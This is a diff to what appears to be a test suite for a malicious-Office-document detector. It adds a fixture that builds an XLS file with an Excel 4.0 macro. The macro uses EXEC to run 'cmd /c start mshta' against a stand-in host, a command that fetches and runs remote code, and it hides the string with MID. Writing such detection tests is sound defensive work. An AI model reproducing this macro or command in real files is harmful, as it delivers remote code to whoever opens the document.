@@ -180,6 +180,14 @@ def _shifted(text: str) -> str:
     return "".join(chr(ord(char) + 1) for char in text)
 
 
+def _binary_sheet() -> bytes:
+    """=EXEC("cmd /c start " & MID("xmshta http://g.example/", 2, 99)), =HALT()"""
+    number = b"\x1e\x02\x00", b"\x1e\x63\x00"
+    words = files.string_token("xmshta http://g.example/") + b"".join(number) + b"\x41\x1f\x00"
+    line = files.string_token("cmd /c start ") + words + b"\x08"
+    return files.macro_xls(line + files.function_token(0x6E, 1), files.function_token(0x36, 0))
+
+
 OFFICE_BAD: tuple[Case, ...] = (
     Case("split.docm", "docm", lambda: files.docm(_SPLIT), "powershell-downloads"),
     Case("chr.docm", "docm", lambda: files.docm(document=_CHR), "document-starts-shell"),
@@ -263,6 +271,7 @@ OFFICE_BAD: tuple[Case, ...] = (
         ),
         "windows-download-and-run",
     ),
+    Case("sheet.xls", "ole-xls", _binary_sheet, "document-starts-shell"),
     Case(
         "dde.docx",
         "docx",
